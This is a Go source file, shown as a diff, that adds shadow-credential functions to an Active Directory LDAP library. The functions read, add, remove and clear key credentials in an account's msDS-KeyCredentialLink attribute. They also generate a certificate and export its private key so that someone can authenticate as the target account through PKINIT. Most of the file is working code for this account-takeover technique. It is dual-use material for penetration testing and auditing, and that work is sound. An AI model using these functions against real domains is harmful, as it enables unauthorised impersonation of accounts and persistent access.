@@ -0,0 +1,239 @@
+package ldap
+
+import (
+	"fmt"
+	"os"
+	"path/filepath"
+	"time"
+
+	"github.com/TheManticoreProject/Manticore/windows/guid"
+	keycredentiallink "github.com/TheManticoreProject/Manticore/windows/keycredential"
+	"github.com/TheManticoreProject/Manticore/windows/keycredential/crypto"
+	goldapv3 "github.com/go-ldap/ldap/v3"
+	"software.sslmate.com/src/go-pkcs12"
+)
+
+// Attribute holding the key credentials of an account, used to authenticate with a certificate through PKINIT
+const ATTRIBUTE_KEY_CREDENTIAL_LINK = "msDS-KeyCredentialLink"
+
+// Size in bits of the RSA keys generated for shadow credentials
+const SHADOW_CREDENTIAL_KEY_SIZE = 2048
+
+// ShadowCredential is a key credential stored in the msDS-KeyCredentialLink attribute of an account.
+//
+// Fields:
+//   - KeyCredential: A pointer to the parsed key credential.
+//   - Value: The DN-Binary value of the attribute holding the key credential.
+//   - Certificate: A pointer to the certificate holding the private key of the key credential, only set for the
+//     shadow credentials added by AddShadowCredential and AddShadowCredentialWithCertificate.
+type ShadowCredential struct {
+	KeyCredential *keycredentiallink.KeyCredential
+	Value         string
+	Certificate   *crypto.X509Certificate
+}
+
+// GetShadowCredentials retrieves the key credentials stored in the msDS-KeyCredentialLink attribute of an account.
+//
+// Parameters:
+//   - distinguishedName: A string representing the distinguished name of the user or computer account.
+//
+// Returns:
+//   - A slice of pointers to the ShadowCredential of the account, empty if the attribute is not set.
+//   - An error if the LDAP query fails or if a value cannot be parsed.
+func (ldapSession *Session) GetShadowCredentials(distinguishedName string) ([]*ShadowCredential, error) {
+	attributes := []string{ATTRIBUTE_KEY_CREDENTIAL_LINK}
+
+	ldapResults, err := ldapSession.QueryBaseObject(distinguishedName, "(objectClass=*)", attributes)
+	if err != nil {
+		return nil, fmt.Errorf("error querying LDAP: %w", err)
+	}
+	if len(ldapResults) == 0 {
+		return nil, fmt.Errorf("no object found with distinguished name %s", distinguishedName)
+	}
+
+	return ParseShadowCredentials(ldapResults[0].GetAttributeValues(ATTRIBUTE_KEY_CREDENTIAL_LINK))
+}
+
+// AddShadowCredential generates a self-signed certificate and a device ID, and adds the matching key credential
+// to the msDS-KeyCredentialLink attribute of an account, keeping the key credentials already set.
+//
+// Parameters:
+//   - distinguishedName: A string representing the distinguished name of the user or computer account.
+//   - subject: A string representing the common name of the generated certificate, usually the sAMAccountName of
+//     the account.
+//
+// Returns:
+//   - A pointer to the added ShadowCredential, whose certificate can be exported to authenticate as the account.
+//   - An error if the certificate cannot be generated or if the LDAP modify operation fails.
+//
+// Example:
+//
+//	shadowCredential, err := ldapSession.AddShadowCredential("CN=alice,CN=Users,DC=lab,DC=local", "alice")
+//	if err == nil {
+//	    err = shadowCredential.ExportPFX("./alice.pfx", "password")
+//	}
+func (ldapSession *Session) AddShadowCredential(distinguishedName string, subject string) (*ShadowCredential, error) {
+	now := time.Now()
+	certificate, err := crypto.NewX509Certificate(subject, SHADOW_CREDENTIAL_KEY_SIZE, now.AddDate(-1, 0, 0), now.AddDate(40, 0, 0))
+	if err != nil {
+		return nil, fmt.Errorf("error generating certificate: %w", err)
+	}
+
+	return ldapSession.AddShadowCredentialWithCertificate(distinguishedName, certificate, *guid.NewGUID())
+}
+
+// AddShadowCredentialWithCertificate adds the key credential of an existing certificate to the
+// msDS-KeyCredentialLink attribute of an account, keeping the key credentials already set.
+//
+// Parameters:
+//   - distinguishedName: A string representing the distinguished name of the user or computer account.
+//   - certificate: A pointer to the certificate holding the RSA key of the key credential.
+//   - deviceID: The device ID of the key credential, used to remove it later.
+//
+// Returns:
+//   - A pointer to the added ShadowCredential.
+//   - An error if the key credential cannot be built or if the LDAP modify operation fails.
+func (ldapSession *Session) AddShadowCredentialWithCertificate(distinguishedName string, certificate *crypto.X509Certificate, deviceID guid.GUID) (*ShadowCredential, error) {
+	keyCredential := keycredentiallink.NewKeyCredentialFromCertificate(certificate, deviceID)
+
+	dnWithBinary, err := keyCredential.ToDNWithBinary(distinguishedName)
+	if err != nil {
+		return nil, fmt.Errorf("error building key credential: %w", err)
+	}
+
+	shadowCredential := &ShadowCredential{
+		KeyCredential: keyCredential,
+		Value:         dnWithBinary.ToString(),
+		Certificate:   certificate,
+	}
+
+	err = ldapSession.AddStringToAttributeList(distinguishedName, ATTRIBUTE_KEY_CREDENTIAL_LINK, shadowCredential.Value)
+	if err != nil {
+		return nil, err
+	}
+
+	return shadowCredential, nil
+}
+
+// RemoveShadowCredential removes the key credentials having a device ID from the msDS-KeyCredentialLink attribute
+// of an account, keeping the other key credentials.
+//
+// Parameters:
+//   - distinguishedName: A string representing the distinguished name of the user or computer account.
+//   - deviceID: The device ID of the key credentials to remove.
+//
+// Returns:
+//   - An error if no key credential has the device ID, if the current key credentials cannot be read or if the
+//     LDAP modify operation fails.
+func (ldapSession *Session) RemoveShadowCredential(distinguishedName string, deviceID guid.GUID) error {
+	shadowCredentials, err := ldapSession.GetShadowCredentials(distinguishedName)
+	if err != nil {
+		return err
+	}
+
+	values := []string{}
+	for _, shadowCredential := range shadowCredentials {
+		if shadowCredential.KeyCredential.DeviceId.Equal(&deviceID) {
+			values = append(values, shadowCredential.Value)
+		}
+	}
+	if len(values) == 0 {
+		return fmt.Errorf("no key credential found with device ID %s", deviceID.ToFormatD())
+	}
+
+	m := goldapv3.NewModifyRequest(distinguishedName, nil)
+	m.Delete(ATTRIBUTE_KEY_CREDENTIAL_LINK, values)
+
+	err = ldapSession.connection.Modify(m)
+	if err != nil {
+		return fmt.Errorf("error removing key credential: %w", err)
+	}
+
+	return nil
+}
+
+// ClearShadowCredentials removes all the key credentials from the msDS-KeyCredentialLink attribute of an account.
+//
+// Parameters:
+//   - distinguishedName: A string representing the distinguished name of the user or computer account.
+//
+// Returns:
+//   - An error if the LDAP modify operation fails.
+func (ldapSession *Session) ClearShadowCredentials(distinguishedName string) error {
+	return ldapSession.FlushAttribute(distinguishedName, ATTRIBUTE_KEY_CREDENTIAL_LINK)
+}
+
+// ParseShadowCredentials parses the DN-Binary values of a msDS-KeyCredentialLink attribute.
+//
+// Parameters:
+//   - values: A slice of strings containing the values of the attribute, such as "B:<size>:<hex>:<owner DN>".
+//
+// Returns:
+//   - A slice of pointers to the ShadowCredential of the values, in the same order.
+//   - An error if a value cannot be parsed.
+func ParseShadowCredentials(values []string) ([]*ShadowCredential, error) {
+	shadowCredentials := []*ShadowCredential{}
+	for _, value := range values {
+		dnWithBinary := keycredentiallink.DNWithBinary{}
+		if err := dnWithBinary.Parse([]byte(value)); err != nil {
+			return nil, fmt.Errorf("error parsing DN-Binary value: %w", err)
+		}
+
+		keyCredential := &keycredentiallink.KeyCredential{}
+		if err := keyCredential.ParseDNWithBinary(dnWithBinary); err != nil {
+			return nil, fmt.Errorf("error parsing key credential: %w", err)
+		}
+
+		shadowCredentials = append(shadowCredentials, &ShadowCredential{
+			KeyCredential: keyCredential,
+			Value:         value,
+		})
+	}
+	return shadowCredentials, nil
+}
+
+// ExportPFX exports the certificate and the private key of the shadow credential to a PFX file, for PKINIT.
+//
+// Parameters:
+//   - pathToFile: A string representing the path to the PFX file.
+//   - password: A string representing the password protecting the PFX file.
+//
+// Returns:
+//   - An error if the shadow credential has no certificate or if the export fails.
+func (shadowCredential *ShadowCredential) ExportPFX(pathToFile string, password string) error {
+	if shadowCredential.Certificate == nil {
+		return fmt.Errorf("shadow credential has no certificate")
+	}
+
+	// 3DES and HMAC-SHA1 are understood by every PKINIT tool, unlike the AES encryption of recent PKCS#12 files
+	pfxData, err := pkcs12.LegacyDES.Encode(shadowCredential.Certificate.GetRSAPrivateKey(), shadowCredential.Certificate.GetCertificate(), nil, password)
+	if err != nil {
+		return fmt.Errorf("error encoding PFX data: %w", err)
+	}
+
+	if err := os.MkdirAll(filepath.Dir(pathToFile), os.ModePerm); err != nil {
+		return err
+	}
+	return os.WriteFile(pathToFile, pfxData, 0600)
+}
+
+// ExportPEM exports the certificate and the private key of the shadow credential to PEM files, for PKINIT.
+//
+// Parameters:
+//   - pathToCertificate: A string representing the path to the PEM file of the certificate.
+//   - pathToPrivateKey: A string representing the path to the PEM file of the RSA private key.
+//
+// Returns:
+//   - An error if the shadow credential has no certificate or if the export fails.
+func (shadowCredential *ShadowCredential) ExportPEM(pathToCertificate string, pathToPrivateKey string) error {
+	if shadowCredential.Certificate == nil {
+		return fmt.Errorf("shadow credential has no certificate")
+	}
+	if err := shadowCredential.Certificate.ExportCertificatePEM(pathToCertificate); err != nil {
+		return fmt.Errorf("error exporting certificate: %w", err)
+	}
+	if err := shadowCredential.Certificate.ExportRSAPrivateKeyPEM(pathToPrivateKey); err != nil {
+		return fmt.Errorf("error exporting private key: %w", err)
+	}
+	return nil
+}